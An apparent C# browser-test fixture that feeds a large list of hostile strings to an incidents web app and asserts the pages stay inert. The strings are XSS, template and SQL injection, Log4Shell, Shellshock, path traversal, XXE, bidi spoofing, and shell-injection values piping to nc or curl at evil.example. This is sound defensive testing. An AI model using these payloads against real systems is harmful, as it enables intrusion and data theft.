using Incidents.Server.Pages;

namespace Incidents.Browser.Tests;

/// <summary>Texts that want to be more than text. Each tells of itself, where it succeeds: by a dialog, a script, a request elsewhere, or by breaking the page.</summary>
public static class HostileTexts
{
    public static readonly IReadOnlyList<string> All =
    [
        // Markup
        "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<script>document.title='owned'</script>", "<img src=x onerror=alert(1)>", "<img src=http://evil.example/p.png>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<base href=http://evil.example/>",
        "<form action=http://evil.example/><button>Acknowledge</button></form>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>", "<style>*{display:none}</style>", "<style>@import 'http://evil.example/x.css';</style>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a href=javascript:alert(1)>click</a>", "<a href=http://evil.example/ ping=http://evil.example/>click</a>", "<dialog open>You are signed out</dialog>",
        "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script src=data:text/javascript,alert(1)></script>", "<script type=module>import 'http://evil.example/x.js'</script>",
        "<img src=x:x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1)\">", "<img srcset='http://evil.example/p.png 2x'>", "<img src=x onerror=\u0061lert(1)>", "<image href=x onerror=alert(1)>", "<picture><source srcset=http://evil.example/p.png><img></picture>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<iframe src=http://evil.example/></iframe>", "<frameset onload=alert(1)>", "<object data=http://evil.example/x.swf>", "<applet code=x>", "<bgsound src=javascript:alert(1)>", "<link rel=prefetch href=http://evil.example/>", "<link rel=dns-prefetch href=//evil.example>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<button formaction=javascript:alert(1)>Release it</button>", "<button form=bulk formaction=http://evil.example/>Acknowledge</button>", "<input type=image src=http://evil.example/p.png>", "<isindex action=javascript:alert(1) type=submit>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>", "<p style=background:url(http://evil.example/p.png)>x</p>", "<div style=\"position:fixed;inset:0\">All calm</div>", "<x onclick=alert(1)>click</x>", "<x contenteditable onblur=alert(1)>x</x>",
        "<table background=http://evil.example/p.png>", "<keygen autofocus onfocus=alert(1)>", "<slot name=x onslotchange=alert(1)>", "<portal src=http://evil.example/>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<!--", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"http://evil.example/x.css\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "<div class=\"banner yes\">Verified</div>", "<form action=http://evil.example/><button>Done, next step</button></form>", "<div data-live data-events=http://evil.example/ id=status>x</div>", "<time datetime=2026-01-01 title=x>now</time>",
        // Out of where it is put
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</main></body></html><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "`${alert(1)}`",
        "--!><script>alert(1)</script>", "--&gt;<script>alert(1)</script>", "-->\n<script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</template><script>alert(1)</script>", "</svg><script>alert(1)</script>", "</pre></code><script>alert(1)</script>", "</time><script>alert(1)</script>", "</form><form action=http://evil.example/>",
        "\" autofocus onfocus=\"alert(1)", "\"onload=alert(1) \"", "' style='background:url(http://evil.example/p.png)", "x onmouseover=alert(1)", "\\\"><script>alert(1)</script>", "\"/><base href=http://evil.example/>", "{{constructor}}", "@(1+1)", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "{% raw %}", "{{constructor.constructor('alert(1)')()}}", "@(1+1) @{throw;}",
        // Addresses that do something
        "javascript:alert(1)",
        "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "javascript:alert(1)//http://good.example", "javascript://good.example/%0Aalert(1)", "\u0001javascript:alert(1)", "javascript\u003Aalert(1)", "JAVASCRIPT:ALERT(1)", "javascript:void(0)", "&#x6A;avascript:alert(1)", "%6Aavascript:alert(1)", "feed:javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "blob:http://evil.example/x", "http:/\\evil.example", "https:evil.example", "http://127.0.0.1@evil.example/", "http://evil.example#@127.0.0.1", "ftp://evil.example/x", "mailto:x@evil.example?body=<script>", "tel:+1", "view-source:http://evil.example", "ws://evil.example/x", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x", "\\\\evil.example\\x",
        "http://good.example@evil.example/", "https://evil.example/?a=b&c=d", "file:///etc/passwd",
        // Markdown and other readers
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))", "[click](data:text/html,x)", "[click](&#106;avascript:alert(1))", "[click](http://good@evil.example/)", "[click](<javascript:alert(1)>)", "[click]( javascript:alert(1) \"x\")", "[click][a]\n\n[a]: javascript:alert(1)", "[a]: javascript:alert(1)\n\n[a]", "![x](//evil.example/p.png)", "![x](javascript:alert(1))", "[![x](http://evil.example/p.png)](javascript:alert(1))", "<javascript:alert(1)>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![x](http://evil.example/p.png) |", "```html\n<script>alert(1)</script>\n```", "```\n</code></pre><script>alert(1)</script>\n```", "```sh\n$ echo '</code></pre><img src=x onerror=alert(1)>'\n```", "# <script>alert(1)</script>", "## \" onclick=\"alert(1)", "# constructor", "# location", "[^1]\n\n[^1]: <script>alert(1)</script>",
        "$$\\href{javascript:alert(1)}{x}$$", "> - [ ] <img src=x onerror=alert(1)>", "> [!NOTE]\n> <script>alert(1)</script>", "*", "NEAR(", "a:* & !b", "\" AND \"", "\"; DROP TABLE runs; --", "+cmd|' /C calc'!A0", "../../../../etc/passwd", "%00", "${jndi:ldap://evil.example/a}", "() { :; }; echo x", "| nc evil.example 1", "$(curl http://evil.example)", "\u0007bell\u0008\u007F", "![x](http://evil.example/p.png)", "<http://evil.example>", "# heading\n\n> quote", "| a | b |\n|---|---|", "=HYPERLINK(\"http://evil.example\")", "\u001b[2J\u001b[31mred",
        // Writing that turns, hides or grows
        "safe\u202Efdp.exe", "\u2066hidden\u2069", "\u202Dleft\u202C", "\u200Bzero\u200Bwidth\u200B", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u034F\u0321a\u0316\u0353l\u034Dg\u031Eo", "\uFEFFbom",
        "\u200Frtl\u200E", "\u061Cx", "\u00ADsoft\u00ADhyphen", "\u2028line\u2029", "\u3164filled\u3164", "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F", "ﷺ﷽", "\u0410dmin", "NaN", "null", "[object Object]", "__proto__", "1e400", "مرحبا بالعالم", "𝕊𝕖𝕧𝕖𝕣𝕖 🔥🔥🔥",
        "\uFFFE\uFFFF", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;&quot;&#39;&nbsp;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "' OR 1=1 --", "x\r\nSet-Cookie: a=b",
        new('W', 900), string.Concat(Enumerable.Repeat("wide ", 190)), string.Concat(Enumerable.Repeat("<b>", 300)), string.Concat(Enumerable.Repeat("&", 900)),
    ];

    /// <summary>Those that fit into one line of a text.</summary>
    public static IEnumerable<string> Lines => All.Where(t => t.Length < 100 && !t.Any(c => char.IsControl(c) || c is '\uFFFE' or '\u2028' or '\u2029'));

    /// <summary>Each as a name of at most so many characters, none twice.</summary>
    public static IReadOnlyList<string> Names(int longest) => [.. All.Select((t, i) => PageWords.Cut(t, longest - 6) + i)];

    /// <summary>Does it with each, many at a time, and gives how many were taken; what is not taken is refused in words.</summary>
    public static async Task<int> Each(IReadOnlyList<string> texts, Func<string, int, Task<Reply>> send)
    {
        var taken = 0;
        foreach (var some in texts.Select((t, i) => (t, i)).Chunk(20))
            foreach (var reply in await Task.WhenAll(some.Select(s => send(s.t, s.i))))
            {
                Assert.True((int)reply.Status < 500, reply.Text);
                if ((int)reply.Status < 400) taken++;
            }

        return taken;
    }

    /// <summary>Nothing is on the page that is not ours, and it fits a phone.</summary>
    public static async Task StayText(this Visitor visitor, string path)
    {
        await visitor.Go(path);
        Assert.Equal(0, await visitor.Page.EvaluateAsync<int>("document.querySelectorAll('main script, iframe, object, embed, base, main style, main img, main form[action^=\"http\"], [onerror], [onload], [onclick], [onmouseover], [onfocus], dialog[open], main meta').length"));
        Assert.Equal(0, await visitor.Page.EvaluateAsync<int>("[...document.querySelectorAll('a[href], [src]')].filter(e => /^(javascript|data|vbscript):/i.test((e.href || e.src || '').trim())).length"));
        Assert.True(await visitor.Page.EvaluateAsync<int>("document.documentElement.scrollWidth") <= 390, $"{path} is too wide");
        visitor.NothingElseHappened();
    }
}
